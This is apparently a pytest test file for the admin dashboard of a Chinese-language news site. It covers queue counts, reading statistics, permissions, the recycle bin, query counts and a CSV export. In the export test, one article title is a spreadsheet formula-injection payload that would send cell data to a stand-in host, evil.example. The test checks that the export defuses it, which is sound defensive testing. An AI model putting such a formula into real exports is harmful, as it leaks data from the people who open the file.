"""The dashboard on the admin index: what needs someone today and how the site is read.

Every number links to the change list filtered so that it lists exactly the rows the
number counts; each block shows only to staff who may view its rows; the page costs
the same number of queries with few and with many articles and daily rows.
"""

import csv
import io
import json
import re
from datetime import timedelta

import pytest
from django.contrib.auth.models import Permission
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from django.utils.html import escape

from editorial import recyclebin
from news.models import Article, ArticleDailyViews
from submissions.models import Message, new_reference_code

pytestmark = pytest.mark.django_db


def queue_links(html: str) -> dict[str, str]:
    """{label: url} of the queue rows on the dashboard."""
    rows = re.findall(r'<th scope="row"><a href="([^"]+)">([^<]+)</a></th>', html)
    return {label: url.replace("&amp;", "&") for url, label in rows}


def listed_ids(client, url) -> set[int]:
    response = client.get(url)
    assert response.status_code == 200, url
    assert "e=1" not in response.get("Location", "")
    return {a.pk for a in response.context["cl"].queryset}


def test_article_queues_count_what_their_links_list(superuser_client, make_article):
    now = timezone.now()
    review = {make_article(status=Article.Status.REVIEW).pk for _ in range(2)}
    scheduled = {make_article(publish_at=now + timedelta(days=d)).pk for d in (1, 3, 6)}
    make_article(publish_at=now + timedelta(days=10))  # later than the week
    make_article(status=Article.Status.DRAFT, publish_at=now + timedelta(days=2))  # a draft
    offline = {
        make_article(publish_at=now - timedelta(days=5), unpublish_at=now + timedelta(days=d)).pk
        for d in (2, 5)
    }
    make_article(publish_at=now - timedelta(days=5), unpublish_at=now + timedelta(days=20))
    make_article(publish_at=now - timedelta(days=5), unpublish_at=now - timedelta(days=1))

    html = superuser_client.get("/admin/").content.decode()
    assert 'href=""' not in html
    links = queue_links(html)
    assert links["待审文章"] == "/admin/news/article/?status__exact=review"
    assert listed_ids(superuser_client, links["待审文章"]) == review
    assert listed_ids(superuser_client, links["7 天内定时发布"]) == scheduled
    assert listed_ids(superuser_client, links["7 天内下线"]) == offline
    block = html.split('id="article-queues"')[1]
    counts = [int(n) for n in re.findall(r'class="queue-count">(\d+)<', block)]
    assert counts == [2, 0, 0, 3, 2]  # 待审, 待发布的修改稿, 退回给我的, 定时, 下线
    listed = {int(pk) for pk in re.findall(r"/admin/news/article/(\d+)/change/", block)}
    assert listed == scheduled | offline  # the first few of each, soonest first


def test_reading_figures_sum_the_daily_rows(superuser_client, make_article, make_section):
    today = timezone.localdate()
    other = make_section(name="政策解读", slug="policy")
    a, b = make_article(title="读得最多的一周"), make_article(title="今天才有人读")
    c = make_article(title="十天前的热文", section=other)
    d = make_article(title="四十天前的旧闻")
    for article, days_ago, views in (
        (a, 0, 5),
        (a, 1, 3),
        (b, 0, 1),
        (c, 10, 20),
        (d, 40, 100),  # older than the 30 days shown
    ):
        ArticleDailyViews.objects.create(
            article=article,
            section_id=article.section_id,
            day=today - timedelta(days=days_ago),
            views=views,
        )
    response = superuser_client.get("/admin/")
    html = response.content.decode()
    data = json.loads(
        html.split('id="reading-chart-data" type="application/json">')[1].split("<")[0]
    )
    assert len(data["days"]) == 30 and data["days"][-1] == f"{today:%m-%d}"
    assert data["reads"][-1] == 6 and data["reads"][-2] == 3 and data["reads"][-11] == 20
    assert sum(data["reads"]) == 29
    tops = html.split('class="dash-top"')
    week, month = tops[1], tops[2]
    assert week.index("读得最多的一周") < week.index("今天才有人读") and "十天前" not in week
    assert month.index("十天前的热文") < month.index("读得最多的一周") < month.index("今天才有人读")
    assert "四十天前" not in html
    # reads per section, each linked to the change list of that section's articles
    assert dict(zip(data["sections"], data["section_reads"], strict=True)) == {
        "国家级开发区动态": 9,
        "政策解读": 20,
    }
    section_link = f"/admin/news/article/?section__id__exact={other.pk}"
    assert escape(section_link) in html
    assert listed_ids(superuser_client, section_link) == {c.pk}
    assert 'href="/admin/news/article/reads/"' in html


def test_each_role_sees_only_the_blocks_it_may_read(client, editor, django_user_model):
    client.force_login(editor)  # 编辑 read messages, contributions and articles
    html = client.get("/admin/").content.decode()
    assert all(
        block in html for block in ("待回复留言", "待审文章", "阅读情况", "reading-chart-data")
    )
    clerk = django_user_model.objects.create_user("clerk", password="x", is_staff=True)
    clerk.user_permissions.add(Permission.objects.get(codename="view_article"))
    client.force_login(clerk)
    html = client.get("/admin/").content.decode()
    assert "待审文章" in html and "阅读情况" in html
    assert "待回复留言" not in html and "待审稿件" not in html
    clerk.user_permissions.set([Permission.objects.get(codename="view_message")])
    client.force_login(clerk)
    html = client.get("/admin/").content.decode()
    assert "待回复留言" in html
    assert "待审文章" not in html and "阅读情况" not in html and "导出阅读数据" not in html


def test_the_recycle_bins_are_linked_with_their_counts_for_who_may_open_them(
    client, superuser, editor, make_article, django_user_model
):
    binned = [make_article(title=f"删掉的{i}") for i in range(2)]
    recyclebin.move_to_bin(Article.objects.filter(pk__in=[a.pk for a in binned]), superuser)
    make_article(title="留着的")
    client.force_login(editor)
    html = client.get("/admin/").content.decode()
    bins = html.split('id="recycle-bins"')[1].split("</p>")[0]
    links = dict(re.findall(r'<a href="([^"]+)">([^<]+)</a>', bins))
    assert links["/admin/news/article/recycle-bin/"] == "文章（2）"
    page = client.get("/admin/news/article/recycle-bin/").content.decode()
    assert "删掉的0" in page and "删掉的1" in page and "留着的" not in page
    clerk = django_user_model.objects.create_user("clerk", password="x", is_staff=True)
    clerk.user_permissions.add(Permission.objects.get(codename="view_message"))
    client.force_login(clerk)
    assert 'id="recycle-bins"' not in client.get("/admin/").content.decode()


def _fill(make_article, n: int) -> None:
    today = timezone.localdate()
    now = timezone.now()
    articles = [
        make_article(
            status=[Article.Status.PUBLISHED, Article.Status.REVIEW][i % 2],
            publish_at=now + timedelta(days=i % 9 - 4),
            unpublish_at=now + timedelta(days=i % 9 + 1) if i % 3 == 0 else None,
        )
        for i in range(n)
    ]
    ArticleDailyViews.objects.bulk_create(
        ArticleDailyViews(
            article=a, section_id=a.section_id, day=today - timedelta(days=i % 40), views=i + 1
        )
        for i, a in enumerate(articles)
    )
    Message.objects.bulk_create(
        Message(code=new_reference_code(), name="读者", phone="1", subject=f"问题{i}", content="?")
        for i in range(n // 10)
    )


def test_the_dashboard_costs_the_same_queries_with_10_and_200_articles(
    superuser_client, make_article, django_assert_num_queries
):
    figures = f"news:reads:{timezone.localdate()}"  # made at most every two minutes

    def measure(assert_queries):
        cache.delete(figures)
        superuser_client.get("/admin/")  # rebuilds the cached settings and section tree
        cache.delete(figures)
        with assert_queries() as fresh:
            assert superuser_client.get("/admin/").status_code == 200
        n_fresh = len(fresh)  # now: each request empties the query log
        with assert_queries() as cached:
            assert superuser_client.get("/admin/").status_code == 200
        return n_fresh, len(cached)

    _fill(make_article, 10)
    fresh, cached = measure(lambda: CaptureQueriesContext(connection))
    assert fresh == cached + 4  # per day, the top articles, their titles, per section
    _fill(make_article, 190)
    expected = iter((fresh, cached))
    measure(lambda: django_assert_num_queries(next(expected)))


def test_reads_export_is_a_csv_of_each_article_per_day_in_the_range(superuser_client, make_article):
    today = timezone.localdate()
    a = make_article(title='=HYPERLINK("http://evil.example/?"&A1,"点我")')
    b = make_article(title="园区招商新政")
    for article, days_ago, views in ((a, 0, 4), (b, 0, 2), (b, 2, 7), (a, 9, 1)):
        ArticleDailyViews.objects.create(
            article=article,
            section_id=article.section_id,
            day=today - timedelta(days=days_ago),
            views=views,
        )
    start, end = today - timedelta(days=2), today
    response = superuser_client.get("/admin/news/article/reads/", {"start": start, "end": end})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [
        ["日期", "文章", "栏目", "阅读数"],
        [f"{start}", "园区招商新政", "国家级开发区动态", "7"],
        [f"{today}", "'" + a.title, "国家级开发区动态", "4"],
        [f"{today}", "园区招商新政", "国家级开发区动态", "2"],
    ]


def test_a_bad_date_range_comes_back_with_a_message_and_the_dates(superuser_client):
    page = superuser_client.get("/admin/news/article/reads/")
    assert page.status_code == 200 and "导出 CSV" in page.content.decode()
    response = superuser_client.get(
        "/admin/news/article/reads/", {"start": "2026-05-10", "end": "2026-05-01"}
    )
    html = response.content.decode()
    assert response.status_code == 400
    assert "结束日期不能早于开始日期。" in html
    assert 'value="2026-05-10"' in html and 'value="2026-05-01"' in html
    response = superuser_client.get("/admin/news/article/reads/", {"start": "昨天", "end": ""})
    assert response.status_code == 400 and "昨天" in response.content.decode()


def test_only_staff_who_may_view_articles_export_reads(client, django_user_model, editor):
    assert client.get("/admin/news/article/reads/").status_code == 302  # to the login
    clerk = django_user_model.objects.create_user("clerk", password="x", is_staff=True)
    client.force_login(clerk)
    assert client.get("/admin/news/article/reads/").status_code == 403
    client.force_login(editor)
    assert client.get("/admin/news/article/reads/").status_code == 200
